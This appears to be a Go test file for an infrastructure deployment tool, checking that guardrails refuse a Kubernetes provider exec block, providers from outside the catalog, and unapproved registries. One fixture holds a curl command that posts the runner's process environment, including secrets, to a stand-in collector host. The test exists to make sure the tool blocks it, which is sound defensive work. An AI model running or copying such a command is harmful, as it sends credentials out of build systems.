package deployment_test

import (
	"errors"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/cloudoven/cloudoven/blueprint"
	"github.com/cloudoven/cloudoven/catalog"
	"github.com/cloudoven/cloudoven/deployment"
	"github.com/cloudoven/cloudoven/internal/testenv"
	"github.com/cloudoven/cloudoven/policy"
)

// execDoc configures the kubernetes provider with an exec block: the program runs on the
// runner during every plan, with the environment's secrets in its environment.
const execDoc = `{"format": 1, "name": "app",
  "required_providers": [{"name": "kubernetes", "source": "hashicorp/kubernetes", "version": "~> 3.2"}],
  "providers": [{"name": "kubernetes", "config": {"host": {"literal": "https://aks.example:443"},
    "exec": [{"api_version": {"literal": "client.authentication.k8s.io/v1beta1"}, "command": {"literal": "sh"},
      "args": {"literal": ["-c", "curl -d @/proc/self/environ https://collector.example"]}}]}}],
  "resources": [{"type": "kubernetes_namespace_v1", "name": "app", "config": {"metadata": [{"name": {"literal": "app"}}]}}]}`

// foreignDoc uses a provider from a registry of the author's choosing, which the catalog
// does not hold.
const foreignDoc = `{"format": 1, "name": "tool",
  "required_providers": [{"name": "tool", "source": "registry.example.com/acme/tool", "version": "1.0.0"}],
  "resources": [{"type": "tool_thing", "name": "x", "config": {}}]}`

const localEnv = `{"format": 1, "name": "dev", "backend": {"type": "local"}}`

// TestConstructsBlockPlansWhateverTheEnvironment: dev does not make findings block, yet a
// provider's exec block refuses the plan.
func TestConstructsBlockPlansWhateverTheEnvironment(t *testing.T) {
	t.Parallel()
	env := parseEnv(t, localEnv)
	res, err := deployment.Resolve(deployment.Inputs{Blueprint: parse(t, execDoc), Name: "app", Version: 1,
		Environment: env, Catalog: testenv.Catalog(t), Rules: policy.DefaultRules()})
	if err != nil {
		t.Fatal(err)
	}
	if res.Diagnostics.HasErrors() {
		t.Fatalf("the blueprint is valid: %s", res.Diagnostics.Error())
	}
	var blocked *deployment.BlockedError
	if err := res.Verdict.Err(); !errors.As(err, &blocked) {
		t.Fatalf("verdict %+v: Err() = %v, want a *deployment.BlockedError", res.Verdict, err)
	} else if msg := err.Error(); !strings.Contains(msg, "no-provider-exec on provider.kubernetes") {
		t.Errorf("the plan is refused with %q", msg)
	}
}

// TestProvidersOutsideTheCatalogAreErrors: a provider the catalog does not hold (and the
// project does not allow) is an error on its source, and refuses the plan.
func TestProvidersOutsideTheCatalogAreErrors(t *testing.T) {
	t.Parallel()
	res, err := deployment.Resolve(deployment.Inputs{Blueprint: parse(t, foreignDoc), Name: "tool", Version: 1,
		Environment: parseEnv(t, localEnv), Catalog: testenv.Catalog(t), Rules: policy.DefaultRules()})
	if err != nil {
		t.Fatal(err)
	}
	var found bool
	for _, d := range res.Diagnostics.At("required_providers[0].source") {
		found = found || d.Severity == blueprint.Error && strings.Contains(d.Summary, "registry.example.com/acme/tool")
	}
	if !found {
		t.Errorf("no error on the source: %s", res.Diagnostics.Error())
	}
	var blocked *deployment.BlockedError
	if err := res.Verdict.Err(); !errors.As(err, &blocked) || !strings.Contains(err.Error(), "registry.example.com/acme/tool") {
		t.Errorf("Err() = %v, want a *deployment.BlockedError naming the source", err)
	}
}

func TestVerdictRunErr(t *testing.T) {
	tags := policy.Finding{Rule: policy.RequiredTags, Resource: "azurerm_resource_group.rg"}
	exec := policy.Finding{Rule: policy.NoProviderExec, Resource: "provider.kubernetes", Blocks: true}
	tool := policy.Disallowed{Source: "registry.example.com/acme/tool", Path: "required_providers[0].source"}
	tests := []struct {
		name            string
		v               deployment.Verdict
		plan, destroy   bool
		planMsg, runMsg string
	}{
		{name: "findings where they block", v: deployment.Verdict{Environment: "prod", Blocking: true, Findings: []policy.Finding{tags}},
			plan: true, planMsg: "environment prod makes guardrail findings block plans, and the deployment has 1 (required-tags on azurerm_resource_group.rg)"},
		{name: "findings where they do not", v: deployment.Verdict{Environment: "dev", Findings: []policy.Finding{tags}}},
		{name: "a finding that always blocks", v: deployment.Verdict{Environment: "dev", Findings: []policy.Finding{tags, exec}},
			plan: true, destroy: true,
			planMsg: "the deployment has 1 guardrail finding that blocks every run whatever the environment says (no-provider-exec on provider.kubernetes)",
			runMsg:  "the deployment has 1 guardrail finding that blocks every run whatever the environment says (no-provider-exec on provider.kubernetes)"},
		{name: "a provider the project does not allow", v: deployment.Verdict{Environment: "dev", Providers: []policy.Disallowed{tool}},
			plan: true, destroy: true,
			planMsg: "the deployment uses provider registry.example.com/acme/tool, which is not allowed in this project",
			runMsg:  "the deployment uses provider registry.example.com/acme/tool, which is not allowed in this project"},
		{name: "both, where findings block", v: deployment.Verdict{Environment: "prod", Blocking: true, Findings: []policy.Finding{tags}, Providers: []policy.Disallowed{tool}},
			plan: true, destroy: true,
			planMsg: "environment prod makes guardrail findings block plans, and the deployment has 1 (required-tags on azurerm_resource_group.rg); fix them in the blueprint, or change the rules or the environment; and the deployment uses provider registry.example.com/acme/tool",
			runMsg:  "the deployment uses provider registry.example.com/acme/tool"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			for _, c := range []struct {
				op   string
				err  error
				want bool
				msg  string
			}{{"plan", tt.v.Err(), tt.plan, tt.planMsg}, {"destroy", tt.v.RunErr(), tt.destroy, tt.runMsg}} {
				var blocked *deployment.BlockedError
				if got := errors.As(c.err, &blocked); got != c.want {
					t.Errorf("%s: %v, refused %v, want %v", c.op, c.err, got, c.want)
				} else if got && !strings.HasPrefix(c.err.Error(), c.msg) {
					t.Errorf("%s: %q\nwant it to start %q", c.op, c.err, c.msg)
				}
			}
		})
	}
}

// TestResolverChecks: the project's allowed providers and its deployments' state addresses
// reach the verdict.
func TestResolverChecks(t *testing.T) {
	t.Parallel()
	st, id := openStore(t)
	ctx := t.Context()
	const stateURL = "http://cloudoven.test:8080/"
	own := "http://cloudoven.test:8080/api/v1/state/team/" + strconv.FormatInt(id, 10)
	doc := `{"format": 1, "name": "reader",
  "required_providers": [{"name": "tool", "source": "registry.example.com/acme/tool", "version": "1.0.0"}],
  "data": [{"type": "terraform_remote_state", "name": "app", "config": {"backend": {"literal": "http"}, "config": {"literal": {"address": "` + own + `"}}}}],
  "resources": [{"type": "tool_thing", "name": "x", "config": {}}]}`
	if _, _, err := st.CreateBlueprint(ctx, "team", "reader", "", []byte(doc), ""); err != nil {
		t.Fatal(err)
	}
	d, err := st.CreateDeployment(ctx, "team", "reader", 1, "dev", "")
	if err != nil {
		t.Fatal(err)
	}
	verdict := func(r *deployment.Resolver) deployment.Verdict {
		t.Helper()
		v, err := r.Guardrails(ctx, "team", d.ID)
		if err != nil {
			t.Fatal(err)
		}
		return v
	}
	rules := func(v deployment.Verdict) []string {
		var out []string
		for _, f := range v.Findings {
			out = append(out, f.Rule)
		}
		return out
	}

	// Without the state URL the address cannot be told to be the project's; without the
	// allow-list the tool is not allowed.
	bare := deployment.NewResolver(deployment.Config{Store: st, Rules: st, Catalog: func() *catalog.Catalog { return testenv.Catalog(t) }})
	if v := verdict(bare); !slices.Contains(rules(v), policy.OwnRemoteState) || len(v.Providers) != 1 {
		t.Errorf("without the state URL or the allow-list: %+v", v)
	}
	r := deployment.NewResolver(deployment.Config{Store: st, Rules: st, Providers: st, StateURL: stateURL,
		Catalog: func() *catalog.Catalog { return testenv.Catalog(t) }})
	if got := r.StateAddress("team", id); got != own {
		t.Errorf("state address %q, want %q", got, own)
	}
	v := verdict(r)
	if slices.Contains(rules(v), policy.OwnRemoteState) {
		t.Errorf("reading app's state: %v", v.Findings)
	}
	if len(v.Providers) != 1 || v.Providers[0].Source != "registry.example.com/acme/tool" || v.Err() == nil {
		t.Errorf("before the tool is allowed: %+v", v)
	}
	res, err := r.Resolve(ctx, "team", d.ID, 0)
	if err != nil {
		t.Fatal(err)
	}
	if errs := res.Diagnostics.At("required_providers[0].source").Errors(); len(errs) != 1 {
		t.Errorf("the deployment's diagnostics: %s", res.Diagnostics.Error())
	}
	if _, err := st.AllowProvider(ctx, "team", "registry.example.com/acme/tool", "ada"); err != nil {
		t.Fatal(err)
	}
	if v := verdict(r); len(v.Providers) != 0 || v.Err() != nil {
		t.Errorf("once the tool is allowed: %+v, %v", v, v.Err())
	}
}
